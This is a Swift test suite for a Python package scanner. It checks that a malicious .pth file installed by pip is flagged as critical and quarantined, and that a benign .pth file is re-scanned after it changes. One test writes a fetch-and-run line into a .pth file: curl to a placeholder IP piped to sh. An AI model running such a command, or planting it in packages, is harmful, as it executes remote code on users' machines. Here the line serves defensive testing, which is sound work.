import AlterCLI
import AlterKit
import AlterTestSupport
import Foundation
import Testing

/// `alterks scan --python VENV/bin/python` reads what each installed distribution's RECORD lists: a `.pth` payload
/// that real pip installed is a critical code finding, its benign twin is not, and a file changed after the scan
/// is read again (neither the inspection cache nor the verdict cache answers for other bytes).
@Suite struct ScanInstalledCodeTests {
    typealias World = GateEngineEndToEndTests.World

    func world(_ label: String) async throws -> World {
        let testbed = try await GateTestbed.make(label)
        let pypi = try PyPIDouble()
        pypi.setProject("quietcharts", .json(GateInspectionEndToEndTests.matureProject("quietcharts")))
        return World(testbed: testbed, osv: try OSVDouble(records: []), pypi: pypi)
    }

    /// Real pip installs the wheels of the testbed's index into its venv (no gate: this is what was already there).
    func pipInstall(_ world: World, _ name: String) throws {
        let result = try runProcess(
            world.testbed.pip, ["install", "--no-index", "--find-links", world.testbed.index.path, name],
            environment: PythonEnvironments.hermeticEnvironment())
        #expect(result.status == 0, "\(result.stderr)")
    }

    /// The scan's JSON result for `name`: its verdict action and its code factor.
    func scan(_ world: World, _ name: String) async throws -> (code: Int32, action: String?, factor: [String: Any]?) {
        let out = BufferStream()
        let err = BufferStream()
        let context = try world.context(err: err, out: out)
        let python = world.testbed.venv.appendingPathComponent("bin/python").path
        let code = await CLIContext.$current.withValue(context) {
            await AlterKSMain.run(["scan", "--python", python, "--format", "json"])
        }
        let document = try #require(
            try JSONSerialization.jsonObject(with: Data(out.text.utf8)) as? [String: Any], "\(err.text)")
        let results = document["results"] as? [[String: Any]] ?? []
        let result = results.first { $0["normalized_name"] as? String == name }
        let factors = (result?["risk"] as? [String: Any])?["factors"] as? [[String: Any]] ?? []
        return (
            code, (result?["verdict"] as? [String: Any])?["action"] as? String,
            factors.first { $0["name"] as? String == "code" }
        )
    }

    @Test func installedPthPayloadIsACriticalCodeFinding() async throws {
        let world = try await world("scan-installed-pth")
        defer { world.stop() }
        try world.testbed.wheels.wheel(
            name: "quietcharts", version: "2.0", extraFiles: GateInspectionEndToEndTests.payload)
        try pipInstall(world, "quietcharts")
        let (_, action, factor) = try await scan(world, "quietcharts")
        #expect(factor?["score"] as? Double == 1.0, "\(String(describing: factor))")
        let reason = factor?["reason"] as? String ?? ""
        #expect(reason.contains("critical"), "\(reason)")
        #expect(reason.contains("quietcharts_boot.py:2"), "\(reason)")
        // A critical code finding calls for QUARANTINE; a scan reports it.
        #expect(action == "quarantine")
    }

    @Test func benignTwinHasNoFindingUntilItsFilesChange() async throws {
        let world = try await world("scan-installed-twin")
        defer { world.stop() }
        try world.testbed.wheels.wheel(
            name: "quietcharts", version: "2.0", extraFiles: ["quietcharts_paths.pth": "quietcharts_extra\n"])
        try pipInstall(world, "quietcharts")
        let (_, action, factor) = try await scan(world, "quietcharts")
        #expect(factor?["score"] as? Double == 0, "\(String(describing: factor))")
        #expect((factor?["reason"] as? String)?.hasPrefix("no findings") == true)
        #expect(action == "allow")

        // Someone appends a payload to the installed .pth: the next scan reads the files again.
        let site = try #require(
            try GateInspectionEndToEndTests.sitePackages(world.testbed.venv), "no site-packages")
        let pth = URL(fileURLWithPath: site + "/quietcharts_paths.pth")
        try Data("quietcharts_extra\nimport os; os.system('curl -s https://203.0.113.9/x | sh')\n".utf8).write(to: pth)
        let (_, after, changed) = try await scan(world, "quietcharts")
        #expect(changed?["score"] as? Double == 1.0, "\(String(describing: changed))")
        #expect(after == "quarantine")
    }
}
